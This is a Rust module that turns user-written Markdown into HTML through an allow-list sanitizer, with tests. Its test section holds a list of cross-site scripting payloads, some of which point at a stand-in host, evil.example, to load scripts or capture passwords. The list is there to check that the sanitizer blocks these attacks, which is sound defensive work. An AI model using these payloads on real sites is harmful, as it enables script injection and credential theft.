//! What people write, as safe HTML: Markdown read by comrak, then always through one allow-list.

use std::{
    collections::{HashMap, HashSet},
    fmt,
    sync::LazyLock,
};

use askama::filters::HtmlSafe;

pub mod filled;

/// HTML that went through the allow-list. Only this module makes it.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SafeHtml(String);

impl SafeHtml {
    /// The HTML.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for SafeHtml {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl HtmlSafe for SafeHtml {}

static ALLOWED: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut allowed = ammonia::Builder::empty();
    allowed
        .tags(HashSet::from([
            "p",
            "br",
            "hr",
            "strong",
            "em",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "a",
            "h3",
            "h4",
            "h5",
            "h6",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ]))
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"])), ("ol", HashSet::from(["start"]))]))
        .clean_content_tags(HashSet::from([
            "script", "style", "iframe", "object", "template", "noscript", "svg", "math",
        ]))
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener nofollow ugc"))
        .strip_comments(true);
    allowed
});

fn options() -> comrak::Options<'static> {
    let mut options = comrak::Options::default();
    options.extension.strikethrough = true;
    options.extension.table = true;
    options.extension.autolink = true;
    options.render.hardbreaks = true;
    // Raw HTML is shown as the text that was typed, not dropped: nothing a customer wrote is lost.
    options.render.escape = true;
    options
}

/// Markdown as HTML that may stand in a page: no scripts, styles, pictures or foreign frames, links without a trace
/// of us, headings below those of the page.
pub fn rich(text: &str) -> SafeHtml {
    foreign(&comrak::markdown_to_html(text, &options()))
}

/// HTML from Markdown that somebody wrote, through the allow-list.
fn foreign(html: &str) -> SafeHtml {
    // A note's headings stand below the page's own h1 and h2.
    let html = html.replace("<h1>", "<h3>").replace("</h1>", "</h3>").replace("<h2>", "<h4>").replace("</h2>", "</h4>");
    SafeHtml(ALLOWED.clean(&html).to_string())
}

/// The Markdown of the manual as HTML. It comes with the program (`'static`), nobody typed it: its headings and its links
/// to other pages of ours stay as they are.
pub fn manual(text: &'static str) -> SafeHtml {
    let mut options = options();
    options.render.hardbreaks = false;
    SafeHtml(comrak::markdown_to_html(text, &options))
}

/// The text without marks of Markdown, on one line, cut after `max` characters at a word with `…`.
pub fn plain(text: &str, max: usize) -> String {
    let arena = comrak::Arena::new();
    let root = comrak::parse_document(&arena, text, &options());
    let mut words = String::new();
    for node in root.descendants() {
        match &node.data().value {
            comrak::nodes::NodeValue::Text(text) => words.push_str(text),
            comrak::nodes::NodeValue::Code(code) => words.push_str(&code.literal),
            comrak::nodes::NodeValue::CodeBlock(block) => {
                words.push(' ');
                words.push_str(&block.literal);
            }
            comrak::nodes::NodeValue::HtmlBlock(block) => {
                words.push(' ');
                words.push_str(&block.literal);
            }
            comrak::nodes::NodeValue::HtmlInline(html) => words.push_str(html),
            value if value.block() => words.push(' '),
            comrak::nodes::NodeValue::SoftBreak | comrak::nodes::NodeValue::LineBreak => words.push(' '),
            _ => {}
        }
    }
    let words = words.split_whitespace().collect::<Vec<_>>().join(" ");
    excerpt(&words, max)
}

fn excerpt(text: &str, max: usize) -> String {
    let Some((end, _)) = text.char_indices().nth(max) else {
        return text.to_owned();
    };
    let cut = &text[..end];
    let cut = cut.rfind(' ').filter(|space| *space > end / 2).map_or(cut, |space| &cut[..space]);
    format!("{}…", cut.trim_end_matches([' ', ',', ';', ':', '.']))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Ways to smuggle a script that have worked somewhere, in Markdown and in raw HTML.
    pub(super) const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png)",
        "![x\" onerror=\"alert(1)](https://evil.example/a.png)",
        "[x](https://a.example \"onmouseover=alert(1)\")",
        "[x](https://a.example\" onmouseover=\"alert(1))",
        "<https://a.example/\"onmouseover=\"alert(1)>",
        "<javascript:alert(1)>",
        "<form action=https://evil.example><input name=password></form>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<p style=\"position:fixed;inset:0\">over everything</p>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```html\" onload=\"alert(1)\nx\n```",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "<!--><script>alert(1)</script>-->",
        "<details open ontoggle=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "\u{202e}<script>alert(1)</script>",
    ];

    /// Every tag and attribute that came through, read the simple way: our output has no odd quoting.
    fn tags(html: &str) -> Vec<&str> {
        html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).collect()
    }

    #[test]
    fn no_attack_comes_through() {
        for attack in ATTACKS {
            let html = rich(attack);
            for tag in tags(html.as_str()) {
                let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default();
                assert!(
                    ["p", "br", "a", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "strong", "em"]
                        .contains(&name),
                    "{attack:?} gave {html}"
                );
                if let Some((_, attributes)) = tag.split_once(' ') {
                    assert!(
                        attributes.starts_with("href=\"http") || attributes.starts_with("rel="),
                        "{attack:?} gave {html}"
                    );
                    assert!(
                        !attributes.contains("onmouseover=\"") && !attributes.contains("style="),
                        "{attack:?} gave {html}"
                    );
                }
            }
        }
    }

    #[test]
    fn what_people_write_is_kept() {
        assert_eq!(rich("**Done.**\nNext line").as_str(), "<p><strong>Done.</strong><br>\nNext line</p>\n");
        assert_eq!(rich("if a < b && c > d").as_str(), "<p>if a &lt; b &amp;&amp; c &gt; d</p>\n");
        assert_eq!(rich("<b>bold</b>").as_str(), "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n");
        assert_eq!(rich("~~old~~").as_str(), "<p><del>old</del></p>\n");
        assert!(rich("- [ ] a\n- b").as_str().contains("<li>b</li>"));
        assert!(rich("| a | b |\n|---|---|\n| 1 | 2 |").as_str().contains("<td>1</td>"));
        assert_eq!(rich("# Big").as_str(), "<h3>Big</h3>\n");
        assert_eq!(rich("日本語 🎉 ñ").as_str(), "<p>日本語 🎉 ñ</p>\n");
    }

    #[test]
    fn links_leave_no_trace_of_us() {
        assert_eq!(
            rich("see https://example.com/a?b=1&c=2").as_str(),
            "<p>see <a href=\"https://example.com/a?b=1&amp;c=2\" rel=\"noopener nofollow ugc\">https://example.com/a?b=1&amp;c=2</a></p>\n"
        );
        assert!(!rich("[in](/sign-out)").as_str().contains("href"), "relative links could act on the reader's behalf");
    }

    #[test]
    fn an_excerpt_is_one_line_of_plain_text() {
        for (text, max, excerpt) in [
            ("**Hello**, see `x`\n\n- one\n- two", 80, "Hello, see x one two"),
            ("[a link](https://example.com)", 80, "a link"),
            ("The quick brown fox jumps", 15, "The quick…"),
            ("Unbrokenwordthatislong", 8, "Unbroken…"),
            ("<b>x</b>", 80, "<b>x</b>"),
            ("exact", 5, "exact"),
            ("", 5, ""),
            ("äöüäöü", 3, "äöü…"),
        ] {
            assert_eq!(plain(text, max), excerpt, "{text}");
        }
    }
}
